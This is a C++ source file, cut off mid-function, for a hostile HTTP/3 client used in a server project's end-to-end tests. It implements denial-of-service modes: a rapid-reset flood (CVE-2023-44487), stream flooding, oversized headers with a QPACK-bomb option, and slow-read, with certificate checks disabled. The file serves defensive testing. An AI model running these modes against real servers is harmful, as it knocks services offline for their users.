// weir_h3_attack: a small hostile HTTP/3 client for weir's end-to-end tests
// (tests/e2e/test_http3_hostile.py). One QUIC connection over one UDP socket (ngtcp2 with its
// GnuTLS crypto, the server's certificate not verified, SNI and ALPN "h3"), HTTP/3 by nghttp3,
// a poll loop driven by ngtcp2's expiry. Every mode is bounded in time (--timeout) and ends with
// one line of JSON on stdout: what was sent, what came back (statuses, RESET_STREAM and
// STOP_SENDING codes, GOAWAY), whether the server closed the connection and with which code.
//
//   weir_h3_attack [options] HOST PORT MODE [ARGS]
//     get N PATH           N ordinary GETs, as many at once as the server's stream limit allows
//     rapid-reset N PATH   N requests (HEADERS with FIN), each reset (RESET_STREAM + STOP_SENDING,
//                          H3_REQUEST_CANCELLED) as soon as its HEADERS left, as fast as stream
//                          credit allows (CVE-2023-44487 in HTTP/3)
//     stream-flood [N] [PATH]  opens streams as fast as possible, always trying more than the
//                          server allows: reports the limit it announced, how many could be
//                          opened at once, how often ngtcp2 refused locally, the peak in flight
//     big-headers BYTES [PATH] one request whose header section is BYTES (HTTP/3 counts each
//                          field as name + value + 32), in many fields of --field-size bytes
//     slow-read PATH       a GET whose stream window is --window bytes and never extended (or
//                          only at --read-rate bytes/s): the server must hold the rest back;
//                          closes the connection after --hold seconds
//   options: --sni NAME (a.test), --authority HOST[:PORT] (SNI:PORT), --timeout SECONDS (30),
//     --window BYTES (slow-read: 65536), --read-rate BYTES_PER_SECOND (0), --hold SECONDS (5),
//     --field-size BYTES (big-headers: 100), --same-field (big-headers: every field the same name
//     and value, so that QPACK sends one dynamic table entry and references to it: a QPACK bomb),
//     --rate N (get, rapid-reset: at most N requests a second), --verbose (ngtcp2's log on stderr)
//   Exit status: 0 when the JSON line was printed (the server's behaviour is judged from it),
//   1 when the client could not even start, 2 on a usage error.
#include <arpa/inet.h>
#include <gnutls/crypto.h>
#include <gnutls/gnutls.h>
#include <netdb.h>
#include <nghttp3/nghttp3.h>
#include <ngtcp2/ngtcp2.h>
#include <ngtcp2/ngtcp2_crypto.h>
#include <ngtcp2/ngtcp2_crypto_gnutls.h>
#include <poll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cinttypes>
#include <cstdarg>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <deque>
#include <map>
#include <string>
#include <string_view>
#include <vector>

namespace {

uint64_t now_ns() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<uint64_t>(ts.tv_sec) * 1000000000ull + static_cast<uint64_t>(ts.tv_nsec);
}

std::string json_str(const std::string& s) {
  std::string out = "\"";
  for (unsigned char c : s) {
    if (c == '"' || c == '\\') {
      out += '\\';
      out += static_cast<char>(c);
    } else if (c < 0x20 || c >= 0x7f) {
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\u%04x", c);
      out += buf;
    } else {
      out += static_cast<char>(c);
    }
  }
  return out + "\"";
}

std::string hex(uint64_t v) {
  char buf[24];
  std::snprintf(buf, sizeof buf, "0x%" PRIx64, v);
  return buf;
}

// ---- options

struct Options {
  std::string host, port, mode;
  std::vector<std::string> args;
  std::string sni = "a.test";
  std::string authority;
  double timeout = 30;
  uint64_t window = 64 * 1024;
  uint64_t read_rate = 0;
  double hold = 5;
  size_t field_size = 100;
  bool same_field = false;
  double rate = 0;  // requests per second (get, rapid-reset); 0: as fast as credit allows
  bool verbose = false;
};

[[noreturn]] void usage(const char* why) {
  std::fprintf(
      stderr,
      "weir_h3_attack: %s\n"
      "usage: weir_h3_attack [--sni NAME] [--authority A] [--timeout S] [--window B] "
      "[--read-rate B/S] [--hold S] [--field-size B] [--same-field] [--rate N] [--verbose] "
      "HOST PORT MODE [ARGS]\n"
      "modes: get N PATH | rapid-reset N PATH | stream-flood [N] [PATH] | "
      "big-headers BYTES [PATH] | slow-read PATH\n",
      why);
  std::exit(2);
}

uint64_t parse_u64(const std::string& s, const char* what) {
  char* end = nullptr;
  errno = 0;
  unsigned long long v = std::strtoull(s.c_str(), &end, 10);
  if (errno != 0 || end == s.c_str()) usage(what);
  uint64_t mul = 1;
  std::string rest(end);
  if (rest == "k" || rest == "K" || rest == "KiB")
    mul = 1024;
  else if (rest == "m" || rest == "M" || rest == "MiB")
    mul = 1024 * 1024;
  else if (!rest.empty())
    usage(what);
  return static_cast<uint64_t>(v) * mul;
}

double parse_double(const std::string& s, const char* what) {
  char* end = nullptr;
  double v = std::strtod(s.c_str(), &end);
  if (end == s.c_str() || *end != '\0' || v < 0) usage(what);
  return v;
}

Options parse(int argc, char** argv) {
  Options o;
  std::vector<std::string> pos;
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    auto value = [&](const char* name) -> std::string {
      auto eq = a.find('=');
      if (eq != std::string::npos) return a.substr(eq + 1);
      if (i + 1 >= argc) usage(name);
      return argv[++i];
    };
    auto is = [&](const char* name) {
      size_t n = std::strlen(name);
      return a == name || (a.compare(0, n, name) == 0 && a.size() > n && a[n] == '=');
    };
    if (is("--sni"))
      o.sni = value("--sni needs a value");
    else if (is("--authority"))
      o.authority = value("--authority needs a value");
    else if (is("--timeout"))
      o.timeout = parse_double(value("--timeout"), "bad --timeout");
    else if (is("--window"))
      o.window = parse_u64(value("--window"), "bad --window");
    else if (is("--read-rate"))
      o.read_rate = parse_u64(value("--read-rate"), "bad --read-rate");
    else if (is("--hold"))
      o.hold = parse_double(value("--hold"), "bad --hold");
    else if (is("--field-size"))
      o.field_size = parse_u64(value("--field-size"), "bad --field-size");
    else if (is("--rate"))
      o.rate = parse_double(value("--rate"), "bad --rate");
    else if (a == "--same-field")
      o.same_field = true;
    else if (a == "--verbose" || a == "-v")
      o.verbose = true;
    else if (a.size() > 1 && a[0] == '-' && a[1] == '-')
      usage(("unknown option " + a).c_str());
    else
      pos.push_back(a);
  }
  if (pos.size() < 3) usage("HOST PORT MODE needed");
  o.host = pos[0];
  o.port = pos[1];
  o.mode = pos[2];
  o.args.assign(pos.begin() + 3, pos.end());
  if (o.authority.empty()) o.authority = o.sni + ":" + o.port;
  if (o.field_size < 1) usage("--field-size must be at least 1");
  return o;
}

// ---- the client

struct Stream {
  int64_t id = -1;
  int status = 0;
  uint64_t body = 0;
  uint64_t unconsumed = 0;  // slow-read: bytes received and not yet given back as window
  bool req_sent = false;    // HEADERS (and FIN) handed to a packet
  bool reset_sent = false;  // we reset it
  bool ended = false;       // the server's FIN (nghttp3 end_stream)
  bool closed = false;      // ngtcp2 closed it
  int64_t close_code = -1;  // the app error code it closed with (-1: none set)
  int64_t reset_code = -1;  // RESET_STREAM from the server
  int64_t stop_code = -1;   // STOP_SENDING from the server
  uint64_t sent_ns = 0;     // when its HEADERS (and FIN) were all handed to packets
  uint64_t status_ns = 0;   // when its :status came
};

struct Close {
  bool seen = false;
  std::string type;  // "transport" or "application"
  uint64_t code = 0;
  std::string name, reason;
};

class Client {
 public:
  explicit Client(Options o) : o_(std::move(o)) {}
  ~Client();
  int run();

 private:
  friend struct Cb;
  // setup
  bool open_socket();
  bool init_tls();
  bool init_quic();
  bool setup_h3();
  // loop
  bool read_packets();
  bool write_packets();
  void step();
  void after_write();
  using Fields = std::vector<std::pair<std::string_view, std::string_view>>;
  bool open_request(const std::string& path, const Fields& extra);
  void send_close();
  void fail(const std::string& why);
  void print_summary();
  void note_log(const char* line);
  void note_close();
  void mark_sent(int64_t id) {
    Stream& s = stream(id);
    if (!s.req_sent) s.sent_ns = now_ns();
    s.req_sent = true;
  }
  Stream& stream(int64_t id) {
    Stream& s = streams_[id];
    s.id = id;
    return s;
  }

  Options o_;
  int fd_ = -1;
  sockaddr_storage local_{}, remote_{};
  socklen_t local_len_ = 0, remote_len_ = 0;
  ngtcp2_path path_{};
  ngtcp2_conn* conn_ = nullptr;
  nghttp3_conn* h3_ = nullptr;
  gnutls_session_t tls_ = nullptr;
  gnutls_certificate_credentials_t cred_ = nullptr;
  ngtcp2_crypto_conn_ref ref_{};
  uint64_t start_ = 0, deadline_ = 0;

  // what happened
  bool handshake_ = false;
  std::string alpn_;
  std::string error_;
  bool timed_out_ = false;
  bool draining_ = false;  // the server closed (CONNECTION_CLOSE received)
  bool stateless_reset_ = false;
  bool closed_by_us_ = false;
  bool done_ = false;
  Close close_;
  int64_t goaway_id_ = -1;
  std::map<int64_t, Stream> streams_;
  uint64_t opened_ = 0, resets_sent_ = 0, refused_locally_ = 0;
  uint64_t max_streams_credit_ = 0;  // the most bidi streams the server allowed so far
  uint64_t first_burst_ = 0;         // streams opened before ngtcp2 first refused
  bool refused_once_ = false;
  uint64_t peak_in_flight_ = 0;
  uint64_t header_bytes_ = 0, header_fields_ = 0;
  uint64_t datagrams_in_ = 0, datagrams_out_ = 0, bytes_in_ = 0, bytes_out_ = 0;
  uint64_t consumed_total_ = 0;
  uint64_t first_byte_ns_ = 0, stalled_since_ns_ = 0, last_body_ns_ = 0;
  uint64_t linger_until_ = 0;  // rapid-reset: all sent, waiting for the server's verdict
  uint64_t hold_until_ = 0;    // slow-read
  uint64_t last_tick_ = 0;
  uint64_t target_ = 0;         // requests to make
  uint64_t first_open_ns_ = 0;  // --rate: when the first request went
  uint64_t handshake_ns_ = 0;
  bool server_uni_seen_ = false;
  uint64_t settings_ns_ = 0;
  std::string path_arg_ = "/";
  std::deque<std::string> names_;  // big-headers: the field names (stable addresses)
  std::string value_;              // big-headers: every value is a prefix of this
};

// ---- ngtcp2 / nghttp3 callbacks

struct Cb {
  static Client& C(void* u) { return *static_cast<Client*>(u); }

  static void rand(uint8_t* dest, size_t len, const ngtcp2_rand_ctx*) {
    gnutls_rnd(GNUTLS_RND_RANDOM, dest, len);
  }
  static int get_new_connection_id(ngtcp2_conn*, ngtcp2_cid* cid, uint8_t* token, size_t cidlen,
                                   void*) {
    uint8_t buf[NGTCP2_MAX_CIDLEN];
    gnutls_rnd(GNUTLS_RND_RANDOM, buf, cidlen);
    ngtcp2_cid_init(cid, buf, cidlen);
    gnutls_rnd(GNUTLS_RND_RANDOM, token, NGTCP2_STATELESS_RESET_TOKENLEN);
    return 0;
  }
  static int handshake_completed(ngtcp2_conn*, void* u) {
    Client& c = C(u);
    c.handshake_ = true;
    c.handshake_ns_ = now_ns();
    gnutls_datum_t proto{};
    if (gnutls_alpn_get_selected_protocol(c.tls_, &proto) == 0)
      c.alpn_.assign(reinterpret_cast<const char*>(proto.data), proto.size);
    if (!c.h3_ && !c.setup_h3()) return NGTCP2_ERR_CALLBACK_FAILURE;
    return 0;
  }
  static int recv_stream_data(ngtcp2_conn* conn, uint32_t flags, int64_t sid, uint64_t,
                              const uint8_t* data, size_t len, void* u, void*) {
    Client& c = C(u);
    if (!c.h3_ && !c.setup_h3()) return NGTCP2_ERR_CALLBACK_FAILURE;
    auto n =
        nghttp3_conn_read_stream(c.h3_, sid, data, len, (flags & NGTCP2_STREAM_DATA_FLAG_FIN) != 0);
    if (n < 0) {
      c.fail(std::string("nghttp3_conn_read_stream: ") + nghttp3_strerror(static_cast<int>(n)));
      return NGTCP2_ERR_CALLBACK_FAILURE;
    }
    if (!ngtcp2_is_bidi_stream(sid) && !ngtcp2_conn_is_local_stream(conn, sid) && len > 0)
      c.server_uni_seen_ = true;  // the server's control stream opens with its SETTINGS
    // Frame bytes nghttp3 consumed itself. A slow reader keeps them too: its window is fixed.
    if (c.o_.mode == "slow-read" && ngtcp2_is_bidi_stream(sid)) {
      c.stream(sid).unconsumed += static_cast<uint64_t>(n);
      return 0;
    }
    ngtcp2_conn_extend_max_stream_offset(conn, sid, static_cast<uint64_t>(n));
    ngtcp2_conn_extend_max_offset(conn, static_cast<uint64_t>(n));
    return 0;
  }
  static int acked_stream_data_offset(ngtcp2_conn*, int64_t sid, uint64_t, uint64_t len, void* u,
                                      void*) {
    Client& c = C(u);
    if (c.h3_ && nghttp3_conn_add_ack_offset(c.h3_, sid, len) != 0)
      return NGTCP2_ERR_CALLBACK_FAILURE;
    return 0;
  }
  static int stream_close(ngtcp2_conn*, uint32_t flags, int64_t sid, uint64_t code, void* u,
                          void*) {
    Client& c = C(u);
    if (ngtcp2_is_bidi_stream(sid)) {
      Stream& s = c.stream(sid);
      s.closed = true;
      if (flags & NGTCP2_STREAM_CLOSE_FLAG_APP_ERROR_CODE_SET)
        s.close_code = static_cast<int64_t>(code);
    }
    if (!(flags & NGTCP2_STREAM_CLOSE_FLAG_APP_ERROR_CODE_SET)) code = NGHTTP3_H3_NO_ERROR;
    if (c.h3_) {
      int rv = nghttp3_conn_close_stream(c.h3_, sid, code);
      if (rv != 0 && rv != NGHTTP3_ERR_STREAM_NOT_FOUND) {
        c.fail(std::string("nghttp3_conn_close_stream: ") + nghttp3_strerror(rv));
        return NGTCP2_ERR_CALLBACK_FAILURE;
      }
    }
    return 0;
  }
  static int stream_reset(ngtcp2_conn*, int64_t sid, uint64_t, uint64_t code, void* u, void*) {
    Client& c = C(u);
    if (ngtcp2_is_bidi_stream(sid)) c.stream(sid).reset_code = static_cast<int64_t>(code);
    if (c.h3_ && nghttp3_conn_shutdown_stream_read(c.h3_, sid) != 0)
      return NGTCP2_ERR_CALLBACK_FAILURE;
    return 0;
  }
  static int stream_stop_sending(ngtcp2_conn*, int64_t sid, uint64_t code, void* u, void*) {
    Client& c = C(u);
    if (ngtcp2_is_bidi_stream(sid)) c.stream(sid).stop_code = static_cast<int64_t>(code);
    if (c.h3_ && nghttp3_conn_shutdown_stream_read(c.h3_, sid) != 0)
      return NGTCP2_ERR_CALLBACK_FAILURE;
    return 0;
  }
  static int extend_max_local_streams_bidi(ngtcp2_conn*, uint64_t max_streams, void* u) {
    Client& c = C(u);
    c.max_streams_credit_ = std::max(c.max_streams_credit_, max_streams);
    return 0;
  }
  static int extend_max_stream_data(ngtcp2_conn*, int64_t sid, uint64_t, void* u, void*) {
    Client& c = C(u);
    if (c.h3_ && nghttp3_conn_unblock_stream(c.h3_, sid) != 0) return NGTCP2_ERR_CALLBACK_FAILURE;
    return 0;
  }
  static int recv_stateless_reset(ngtcp2_conn*, const ngtcp2_pkt_stateless_reset*, void* u) {
    C(u).stateless_reset_ = true;
    return 0;
  }
  static void log(void* u, const char* fmt, ...) {
    char line[1024];
    va_list ap;
    va_start(ap, fmt);
    std::vsnprintf(line, sizeof line, fmt, ap);
    va_end(ap);
    C(u).note_log(line);
  }

  // nghttp3
  static int h3_acked(nghttp3_conn*, int64_t, uint64_t, void*, void*) { return 0; }
  static int h3_stream_close(nghttp3_conn*, int64_t, uint64_t, void*, void*) { return 0; }
  static int h3_recv_data(nghttp3_conn*, int64_t sid, const uint8_t*, size_t len, void* u, void*) {
    Client& c = C(u);
    Stream& s = c.stream(sid);
    uint64_t now = now_ns();
    if (s.body == 0 && c.first_byte_ns_ == 0) c.first_byte_ns_ = now;
    s.body += len;
    c.last_body_ns_ = now;
    if (c.o_.mode == "slow-read") {
      s.unconsumed += len;  // given back only at --read-rate
    } else {
      ngtcp2_conn_extend_max_stream_offset(c.conn_, sid, len);
      ngtcp2_conn_extend_max_offset(c.conn_, len);
      c.consumed_total_ += len;
    }
    return 0;
  }
  static int h3_deferred_consume(nghttp3_conn*, int64_t sid, size_t n, void* u, void*) {
    Client& c = C(u);
    if (c.o_.mode == "slow-read" && ngtcp2_is_bidi_stream(sid)) {
      c.stream(sid).unconsumed += n;
      return 0;
    }
    ngtcp2_conn_extend_max_stream_offset(c.conn_, sid, n);
    ngtcp2_conn_extend_max_offset(c.conn_, n);
    return 0;
  }
  static int h3_recv_header(nghttp3_conn*, int64_t sid, int32_t token, nghttp3_rcbuf*,
                            nghttp3_rcbuf* value, uint8_t, void* u, void*) {
    if (token == NGHTTP3_QPACK_TOKEN__STATUS) {
      auto v = nghttp3_rcbuf_get_buf(value);
      int st = 0;
      for (size_t i = 0; i < v.len && i < 3; ++i)
        st = st * 10 + (v.base[i] - '0');
      Stream& s = C(u).stream(sid);
      s.status = st;  // a final status follows any 1xx
      if (s.status_ns == 0) s.status_ns = now_ns();
    }
    return 0;
  }
  static int h3_end_stream(nghttp3_conn*, int64_t sid, void* u, void*) {
    C(u).stream(sid).ended = true;
    return 0;
  }
  static int h3_stop_sending(nghttp3_conn*, int64_t sid, uint64_t code, void* u, void*) {
    ngtcp2_conn_shutdown_stream_read(C(u).conn_, sid, code);
    return 0;
  }
  static int h3_reset_stream(nghttp3_conn*, int64_t sid, uint64_t code, void* u, void*) {
    ngtcp2_conn_shutdown_stream_write(C(u).conn_, sid, code);
    return 0;
  }
  static int h3_shutdown(nghttp3_conn*, int64_t id, void* u) {
    C(u).goaway_id_ = id;
    return 0;
  }
};

// ---- setup

Client::~Client() {
  if (h3_) nghttp3_conn_del(h3_);
  if (conn_) ngtcp2_conn_del(conn_);
  if (tls_) gnutls_deinit(tls_);
  if (cred_) gnutls_certificate_free_credentials(cred_);
  if (fd_ >= 0) close(fd_);
}

void Client::fail(const std::string& why) {
  if (error_.empty()) error_ = why;
  done_ = true;
}

bool Client::open_socket() {
  addrinfo hints{};
  hints.ai_family = AF_UNSPEC;
  hints.ai_socktype = SOCK_DGRAM;
  addrinfo* res = nullptr;
  int rv = getaddrinfo(o_.host.c_str(), o_.port.c_str(), &hints, &res);
  if (rv != 0) {
    fail(std::string("getaddrinfo: ") + gai_strerror(rv));
    return false;
  }
  fd_ = socket(res->ai_family, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd_ < 0 || connect(fd_, res->ai_addr, res->ai_addrlen) != 0) {
    fail(std::string("socket/connect: ") + std::strerror(errno));
    freeaddrinfo(res);
    return false;
  }
  int big = 4 << 20;
  setsockopt(fd_, SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
  setsockopt(fd_, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
  std::memcpy(&remote_, res->ai_addr, res->ai_addrlen);
  remote_len_ = res->ai_addrlen;
  freeaddrinfo(res);
  local_len_ = sizeof local_;
  if (getsockname(fd_, reinterpret_cast<sockaddr*>(&local_), &local_len_) != 0) {
    fail(std::string("getsockname: ") + std::strerror(errno));
    return false;
  }
  path_.local.addr = reinterpret_cast<sockaddr*>(&local_);
  path_.local.addrlen = local_len_;
  path_.remote.addr = reinterpret_cast<sockaddr*>(&remote_);
  path_.remote.addrlen = remote_len_;
  return true;
}

bool Client::init_tls() {
  int rv;
  if ((rv = gnutls_certificate_allocate_credentials(&cred_)) != 0 ||
      (rv = gnutls_init(&tls_, GNUTLS_CLIENT | GNUTLS_NO_END_OF_EARLY_DATA)) != 0) {
    fail(std::string("GnuTLS: ") + gnutls_strerror(rv));
    return false;
  }
  const char* prio =
      "NORMAL:-VERS-ALL:+VERS-TLS1.3:-CIPHER-ALL:+AES-128-GCM:+AES-256-GCM:+CHACHA20-POLY1305:"
      "+AES-128-CCM:-GROUP-ALL:+GROUP-X25519:+GROUP-SECP256R1:+GROUP-SECP384R1:%DISABLE_TLS13_"
      "COMPAT_MODE";
  const char* where = nullptr;
  if ((rv = gnutls_priority_set_direct(tls_, prio, &where)) != 0 ||
      (rv = ngtcp2_crypto_gnutls_configure_client_session(tls_)) != 0 ||
      (rv = gnutls_credentials_set(tls_, GNUTLS_CRD_CERTIFICATE, cred_)) != 0) {
    fail(std::string("GnuTLS session: ") + gnutls_strerror(rv));
    return false;
  }
  ref_.get_conn = [](ngtcp2_crypto_conn_ref* r) {
    return static_cast<Client*>(r->user_data)->conn_;
  };
  ref_.user_data = this;
  gnutls_session_set_ptr(tls_, &ref_);
  static const char kH3[] = "h3";
  gnutls_datum_t alpn{reinterpret_cast<unsigned char*>(const_cast<char*>(kH3)), 2};
  gnutls_alpn_set_protocols(tls_, &alpn, 1, GNUTLS_ALPN_MANDATORY);
  if (!o_.sni.empty()) gnutls_server_name_set(tls_, GNUTLS_NAME_DNS, o_.sni.data(), o_.sni.size());
  // The certificate is not verified: this is a test client (no gnutls_session_set_verify_cert).
  return true;
}

bool Client::init_quic() {
  ngtcp2_callbacks cb{};
  cb.client_initial = ngtcp2_crypto_client_initial_cb;
  cb.recv_crypto_data = ngtcp2_crypto_recv_crypto_data_cb;
  cb.encrypt = ngtcp2_crypto_encrypt_cb;
  cb.decrypt = ngtcp2_crypto_decrypt_cb;
  cb.hp_mask = ngtcp2_crypto_hp_mask_cb;
  cb.recv_retry = ngtcp2_crypto_recv_retry_cb;
  cb.update_key = ngtcp2_crypto_update_key_cb;
  cb.delete_crypto_aead_ctx = ngtcp2_crypto_delete_crypto_aead_ctx_cb;
  cb.delete_crypto_cipher_ctx = ngtcp2_crypto_delete_crypto_cipher_ctx_cb;
  cb.get_path_challenge_data = ngtcp2_crypto_get_path_challenge_data_cb;
  cb.version_negotiation = ngtcp2_crypto_version_negotiation_cb;
  cb.rand = Cb::rand;
  cb.get_new_connection_id = Cb::get_new_connection_id;
  cb.handshake_completed = Cb::handshake_completed;
  cb.recv_stream_data = Cb::recv_stream_data;
  cb.acked_stream_data_offset = Cb::acked_stream_data_offset;
  cb.stream_close = Cb::stream_close;
  cb.stream_reset = Cb::stream_reset;
  cb.stream_stop_sending = Cb::stream_stop_sending;
  cb.extend_max_local_streams_bidi = Cb::extend_max_local_streams_bidi;
  cb.extend_max_stream_data = Cb::extend_max_stream_data;
  cb.recv_stateless_reset = Cb::recv_stateless_reset;

  ngtcp2_settings settings;
  ngtcp2_settings_default(&settings);
  settings.initial_ts = now_ns();
  if (o_.verbose) settings.log_printf = Cb::log;  // ngtcp2 logs every packet: only when asked
  settings.max_tx_udp_payload_size = 1452;
  settings.handshake_timeout = 10 * NGTCP2_SECONDS;

  ngtcp2_transport_params params;
  ngtcp2_transport_params_default(&params);
  bool slow = o_.mode == "slow-read";
  params.initial_max_stream_data_bidi_local = slow ? o_.window : 1024 * 1024;
  params.initial_max_stream_data_bidi_remote = 0;  // the server opens no request streams
  params.initial_max_stream_data_uni = 256 * 1024;
  params.initial_max_data = slow ? std::max<uint64_t>(o_.window * 4, 256 * 1024) : 16 * 1024 * 1024;
  params.initial_max_streams_bidi = 0;
  params.initial_max_streams_uni = 16;
  params.max_idle_timeout = 60 * NGTCP2_SECONDS;
  params.active_connection_id_limit = 7;
  // No window auto-tuning for the slow reader: its stream window stays what it said.
  settings.max_stream_window = slow ? o_.window : 16 * 1024 * 1024;
  settings.max_window = slow ? params.initial_max_data : 64 * 1024 * 1024;

  uint8_t d[18], s[17];
  gnutls_rnd(GNUTLS_RND_RANDOM, d, sizeof d);
  gnutls_rnd(GNUTLS_RND_RANDOM, s, sizeof s);
  ngtcp2_cid dcid, scid;
  ngtcp2_cid_init(&dcid, d, sizeof d);
  ngtcp2_cid_init(&scid, s, sizeof s);
  int rv = ngtcp2_conn_client_new(&conn_, &dcid, &scid, &path_, NGTCP2_PROTO_VER_V1, &cb, &settings,
                                  &params, nullptr, this);
  if (rv != 0) {
    fail(std::string("ngtcp2_conn_client_new: ") + ngtcp2_strerror(rv));
    return false;
  }
  ngtcp2_conn_set_tls_native_handle(conn_, tls_);
  return true;
}

bool Client::setup_h3() {
  if (ngtcp2_conn_get_streams_uni_left(conn_) < 3) {
    fail("the server allows fewer than 3 unidirectional streams");
    return false;
  }
  nghttp3_callbacks cb{};
  cb.acked_stream_data = Cb::h3_acked;
  cb.stream_close = Cb::h3_stream_close;
  cb.recv_data = Cb::h3_recv_data;
  cb.deferred_consume = Cb::h3_deferred_consume;
  cb.recv_header = Cb::h3_recv_header;
  cb.end_stream = Cb::h3_end_stream;
  cb.stop_sending = Cb::h3_stop_sending;
  cb.reset_stream = Cb::h3_reset_stream;
  cb.shutdown = Cb::h3_shutdown;
  nghttp3_settings settings;
  nghttp3_settings_default(&settings);
  settings.qpack_max_dtable_capacity = 4096;
  settings.qpack_blocked_streams = 100;
  if (nghttp3_conn_client_new(&h3_, &cb, &settings, nghttp3_mem_default(), this) != 0) {
    fail("nghttp3_conn_client_new failed");
    return false;
  }
  int64_t ctrl, enc, dec;
  if (ngtcp2_conn_open_uni_stream(conn_, &ctrl, nullptr) != 0 ||
      nghttp3_conn_bind_control_stream(h3_, ctrl) != 0 ||
      ngtcp2_conn_open_uni_stream(conn_, &enc, nullptr) != 0 ||
      ngtcp2_conn_open_uni_stream(conn_, &dec, nullptr) != 0 ||
      nghttp3_conn_bind_qpack_streams(h3_, enc, dec) != 0) {
    fail("cannot open the HTTP/3 control and QPACK streams");
    return false;
  }
  return true;
}

// ngtcp2's log, with --verbose.
void Client::note_log(const char* line) {
  if (o_.verbose) std::fputs(line, stderr);
}

// The server's CONNECTION_CLOSE, as ngtcp2 kept it.
void Client::note_close() {
  if (close_.seen || conn_ == nullptr) return;
  ngtcp2_connection_close_error ccerr;
  ngtcp2_connection_close_error_default(&ccerr);
  ngtcp2_conn_get_connection_close_error(conn_, &ccerr);
  close_.seen = true;
  close_.type = ccerr.type == NGTCP2_CONNECTION_CLOSE_ERROR_CODE_TYPE_APPLICATION ? "application"
                : ccerr.type == NGTCP2_CONNECTION_CLOSE_ERROR_CODE_TYPE_TRANSPORT_IDLE_CLOSE
                    ? "idle"
                    : "transport";
  close_.code = ccerr.error_code;
  if (ccerr.reason != nullptr && ccerr.reasonlen > 0)
    close_.reason.assign(reinterpret_cast<const char*>(ccerr.reason), ccerr.reasonlen);
  if (close_.type == "application") {
    static const std::map<uint64_t, const char*> kH3 = {{0x100, "H3_NO_ERROR"},
                                                        {0x101, "H3_GENERAL_PROTOCOL_ERROR"},
                                                        {0x102, "H3_INTERNAL_ERROR"},
                                                        {0x103, "H3_STREAM_CREATION_ERROR"},
                                                        {0x104, "H3_CLOSED_CRITICAL_STREAM"},
                                                        {0x105, "H3_FRAME_UNEXPECTED"},
                                                        {0x106, "H3_FRAME_ERROR"},
                                                        {0x107, "H3_EXCESSIVE_LOAD"},
                                                        {0x108, "H3_ID_ERROR"},
                                                        {0x109, "H3_SETTINGS_ERROR"},
                                                        {0x10a, "H3_MISSING_SETTINGS"},
                                                        {0x10b, "H3_REQUEST_REJECTED"},
                                                        {0x10c, "H3_REQUEST_CANCELLED"},
                                                        {0x10d, "H3_REQUEST_INCOMPLETE"},
                                                        {0x10e, "H3_MESSAGE_ERROR"},
                                                        {0x10f, "H3_CONNECT_ERROR"},
                                                        {0x110, "H3_VERSION_FALLBACK"},
                                                        {0x200, "QPACK_DECOMPRESSION_FAILED"},
                                                        {0x201, "QPACK_ENCODER_STREAM_ERROR"},
                                                        {0x202, "QPACK_DECODER_STREAM_ERROR"}};
    auto it = kH3.find(close_.code);
    close_.name = it != kH3.end() ? it->second : "";
  } else {
    static const char* kQuic[] = {"NO_ERROR",
                                  "INTERNAL_ERROR",
                                  "CONNECTION_REFUSED",
                                  "FLOW_CONTROL_ERROR",
                                  "STREAM_LIMIT_ERROR",
                                  "STREAM_STATE_ERROR",
                                  "FINAL_SIZE_ERROR",
                                  "FRAME_ENCODING_ERROR",
                                  "TRANSPORT_PARAMETER_ERROR",
                                  "CONNECTION_ID_LIMIT_ERROR",
                                  "PROTOCOL_VIOLATION",
                                  "INVALID_TOKEN",
                                  "APPLICATION_ERROR",
                                  "CRYPTO_BUFFER_EXCEEDED",
                                  "KEY_UPDATE_ERROR",
                                  "AEAD_LIMIT_REACHED",
                                  "NO_VIABLE_PATH"};
    if (close_.code < sizeof kQuic / sizeof kQuic[0])
      close_.name = kQuic[close_.code];
    else if (close_.code >= 0x100 && close_.code <= 0x1ff)
      close_.name = "CRYPTO_ERROR";
  }
}

// ---- requests

bool Client::open_request(const std::string& path, const Fields& extra) {
  int64_t sid;
  int rv = ngtcp2_conn_open_bidi_stream(conn_, &sid, nullptr);
  if (rv == NGTCP2_ERR_STREAM_ID_BLOCKED) {
    ++refused_locally_;
    if (!refused_once_) {
      refused_once_ = true;
      first_burst_ = opened_;
    }
    return false;
  }
  if (rv != 0) {
    fail(std::string("ngtcp2_conn_open_bidi_stream: ") + ngtcp2_strerror(rv));
    return false;
  }
  auto nv = [](std::string_view n, std::string_view v) {
    return nghttp3_nv{reinterpret_cast<uint8_t*>(const_cast<char*>(n.data())),
                      reinterpret_cast<uint8_t*>(const_cast<char*>(v.data())), n.size(), v.size(),
                      NGHTTP3_NV_FLAG_NONE};
  };
  static const std::string kMethod = ":method", kGet = "GET", kScheme = ":scheme", kHttps = "https",
                           kAuthority = ":authority", kPath = ":path", kUa = "user-agent",
                           kUaValue = "weir_h3_attack";
  std::vector<nghttp3_nv> nva;
  nva.reserve(5 + extra.size());
  nva.push_back(nv(kMethod, kGet));
  nva.push_back(nv(kScheme, kHttps));
  nva.push_back(nv(kAuthority, o_.authority));
  nva.push_back(nv(kPath, path));
  nva.push_back(nv(kUa, kUaValue));
  for (const auto& [n, v] : extra)
    nva.push_back(nv(n, v));
  rv = nghttp3_conn_submit_request(h3_, sid, nva.data(), nva.size(), nullptr, nullptr);
  if (rv != 0) {
    fail(std::string("nghttp3_conn_submit_request: ") + nghttp3_strerror(rv));
    return false;
  }
  stream(sid);
  ++opened_;
  return true;
}

// ---- the loop

bool Client::read_packets() {
  uint8_t buf[65536];
  for (;;) {
    ssize_t n = recv(fd_, buf, sizeof buf, 0);
    if (n < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK) return true;
      if (errno == EINTR || errno == ECONNREFUSED) continue;
      fail(std::string("recv: ") + std::strerror(errno));
      return false;
    }
    ++datagrams_in_;
    bytes_in_ += static_cast<uint64_t>(n);
    ngtcp2_pkt_info pi{};
    int rv = ngtcp2_conn_read_pkt(conn_, &path_, &pi, buf, static_cast<size_t>(n), now_ns());
    if (rv == 0) continue;
    if (rv == NGTCP2_ERR_DRAINING) {
      note_close();
      draining_ = true;  // the server's CONNECTION_CLOSE
      done_ = true;
      return false;
    }
    if (rv == NGTCP2_ERR_CRYPTO) {
